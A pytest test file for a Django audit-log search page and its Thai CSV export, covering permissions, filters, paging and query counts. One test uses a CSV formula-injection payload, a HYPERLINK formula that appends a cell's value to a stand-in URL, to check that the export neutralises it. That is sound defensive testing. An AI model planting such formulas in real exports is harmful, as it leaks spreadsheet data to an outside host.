"""The organisation-wide audit search (issue 12): the page and its CSV for auditors and administrators, 403 for
anyone else; each filter (memo, person, event, dates in the Buddhist era) narrows what is found; pages cut by
sequence number; the CSV streamed, starting with a byte order mark, in Thai."""

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client

from core import thai
from core.models import AuditEvent
from memos.models import Memo
from tests.builders import approve_active, person, submitted_memo
from workflow.audit_search import AuditFilters, audit_page

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("demo_org", "media_root")]


def client_for(username: str) -> Client:
    client = Client()
    client.force_login(person(username))
    return client


@pytest.fixture
def two_memos() -> tuple[Memo, Memo]:
    """rujapa's memo, signed at step 1 by ratchawari; finance_staff's memo, only submitted."""
    mine = submitted_memo(subject="ขออนุมัติจัดซื้อวัสดุ")
    approve_active(mine)
    theirs = submitted_memo(writer="finance_staff", subject="ขออนุมัติเบิกเงิน")
    mine.refresh_from_db()
    return mine, theirs


def sequences(html: str) -> set[int]:
    """The sequence numbers of the events a page lists (Thai digits, as the Thai page writes them)."""
    found = set()
    for part in html.split('data-testid="audit-event"')[1:]:
        number = part.split("</span>", 1)[0].rsplit(" ", 1)[-1]
        found.add(int(thai.arabic_digits(number)))
    return found


def events_where(**lookups: Any) -> set[int]:
    return set(AuditEvent.objects.filter(**lookups).values_list("sequence", flat=True))


def test_only_auditors_and_administrators_may_search_the_audit_log(two_memos: Any) -> None:
    for username in ("ratchawari", "rujapa", "nat"):
        client = client_for(username)
        assert client.get("/audit/").status_code == 403, username
        assert client.get("/audit/export.csv").status_code == 403, username
    for username in ("auditor", "admin"):
        response = client_for(username).get("/audit/")
        assert response.status_code == 200, username
        assert sequences(response.content.decode()) == events_where()


def test_each_filter_narrows_what_is_found(two_memos: tuple[Memo, Memo]) -> None:
    mine, theirs = two_memos
    client = client_for("auditor")
    everything = events_where()

    by_memo = sequences(client.get("/audit/", {"memo": thai.arabic_digits(mine.number)}).content.decode())
    assert by_memo == events_where(object_type="memos.memo", object_id=str(mine.pk))
    assert by_memo < everything
    number_only = mine.number.split(" ", 1)[1]  # "๓๒๘๐๑/๑" without the document code, Thai digits
    assert sequences(client.get("/audit/", {"memo": number_only}).content.decode()) == by_memo
    assert sequences(client.get("/audit/", {"memo": str(theirs.pk)}).content.decode()) == events_where(
        object_type="memos.memo", object_id=str(theirs.pk)
    )

    by_person = sequences(client.get("/audit/", {"actor": "ราชวรี"}).content.decode())
    assert by_person == events_where(actor__username="ratchawari")
    assert by_person
    assert by_person < everything
    assert sequences(client.get("/audit/", {"actor": "finance_staff"}).content.decode()) == events_where(
        actor__username="finance_staff"
    )

    by_action = sequences(client.get("/audit/", {"action": "memo.submitted"}).content.decode())
    assert by_action == events_where(action="memo.submitted")
    assert len(by_action) == 2

    today = thai.bangkok_now().date()
    yesterday = today - timedelta(days=1)
    be = f"{today.day}/{today.month}/{thai.be_year(today.year)}"
    be_yesterday = thai.thai_digits(f"{yesterday.day}/{yesterday.month}/{thai.be_year(yesterday.year)}")
    assert sequences(client.get("/audit/", {"date_from": be, "date_to": be}).content.decode()) == everything
    response = client.get("/audit/", {"date_to": be_yesterday})
    assert sequences(response.content.decode()) == set()
    assert 'data-testid="audit-none"' in response.content.decode()

    both = sequences(client.get("/audit/", {"memo": mine.number, "action": "step.approved"}).content.decode())
    assert both == events_where(object_id=str(mine.pk), action="step.approved")
    assert len(both) == 1


def test_a_date_that_is_no_date_is_said_so_and_nothing_is_listed(two_memos: Any) -> None:
    response = client_for("auditor").get("/audit/", {"date_from": "31/02/2569"})
    html = response.content.decode()
    assert 'data-testid="audit-event"' not in html
    assert "errorlist" in html


def test_pages_are_cut_by_sequence_without_counting(two_memos: Any, django_assert_num_queries: Any) -> None:
    everything = sorted(events_where(), reverse=True)
    seen: list[int] = []
    before = None
    with django_assert_num_queries(2):  # the page's events (+1 row), the numbers of its memos
        page = audit_page(filters=AuditFilters(), size=3)
    while True:
        seen += [e.sequence for e in page.events]
        if page.older is None:
            break
        before = page.older
        page = audit_page(filters=AuditFilters(), before=before, size=3)
    assert seen == everything  # newest first, each once


def test_the_page_takes_the_same_queries_for_two_events_as_for_thirty(django_assert_num_queries: Any) -> None:
    submitted_memo()
    client = client_for("auditor")
    client.get("/audit/")
    with django_assert_num_queries(PAGE_QUERIES):
        first = client.get("/audit/", {"actor": "rujapa"})
    assert len(sequences(first.content.decode())) == 2  # drafted, submitted
    for _ in range(14):
        submitted_memo()
    with django_assert_num_queries(PAGE_QUERIES):
        response = client.get("/audit/", {"actor": "rujapa"})
    assert len(sequences(response.content.decode())) == 30
    number = Memo.objects.values_list("number", flat=True).first()
    # the memo filter looks its memo up first, instead of the people (and whether too many match)
    with django_assert_num_queries(PAGE_QUERIES - 1):
        client.get("/audit/", {"memo": number})
    with django_assert_num_queries(PAGE_QUERIES - 2):  # no filter
        client.get("/audit/")


#: Session, user, permissions (groups and own), the header's count, whether the person filter names too many
#: people, the people it names, the page's events, their memos' numbers.
PAGE_QUERIES = 9


def test_the_csv_starts_with_a_byte_order_mark_and_reads_in_thai(two_memos: tuple[Memo, Memo]) -> None:
    mine, _theirs = two_memos
    response = client_for("auditor").get("/audit/export.csv", {"memo": mine.number})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark: Excel shows the Thai
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][0] == "ลำดับที่"
    data = rows[1:]
    assert len(data) == len(events_where(object_id=str(mine.pk)))
    submitted = next(r for r in data if r[3] == "memo.submitted")
    assert submitted[2] == "ลงนามและเสนอบันทึก"  # the event in Thai
    assert thai.thai_digits(thai.be_year(thai.bangkok_now().year)) in submitted[1]  # a Buddhist-era date
    assert submitted[4] == person("rujapa").full_name
    assert all(r[7] == str(mine.pk) for r in data)  # the filter holds in the export too


def test_a_formula_typed_by_a_stranger_reaches_the_csv_as_text(two_memos: Any) -> None:
    """Whoever fails to sign in chooses the browser name the audit log keeps: in the CSV, a cell starting like a
    formula is written as text, so the auditor's spreadsheet does not run it."""
    formula = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
    Client(HTTP_USER_AGENT=formula).post("/accounts/login/", {"username": "nobody", "password": "wrong"})
    response = client_for("auditor").get("/audit/export.csv", {"action": "auth.sign_in_failed"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
    assert cells == ["'" + formula]


def test_a_person_filter_naming_too_many_people_is_refused_not_cut(two_memos: Any, api_as: Any) -> None:
    """The person filter takes at most MAX_PEOPLE people: words that name more are refused with a message
    (page and API), rather than leaving out the events of everyone after the hundredth."""
    from org.models import Person
    from workflow.audit_search import MAX_PEOPLE

    Person.objects.bulk_create(
        Person(username=f"somchai{n}", first_name_th="สมชาย", last_name_th=f"ทดสอบ{n}")
        for n in range(MAX_PEOPLE + 1)
    )
    page = client_for("auditor").get("/audit/", {"actor": "สมชาย"})
    assert "More than" in page.content.decode() or "มากกว่า" in page.content.decode()
    response = api_as("auditor").get("/api/v1/audit/", {"actor": "สมชาย"})
    assert response.status_code == 400
    assert "actor" in str(response.json())
    assert (
        api_as("auditor").get("/api/v1/audit/", {"actor": "somchai7"}).status_code == 200
    )  # a username: fine
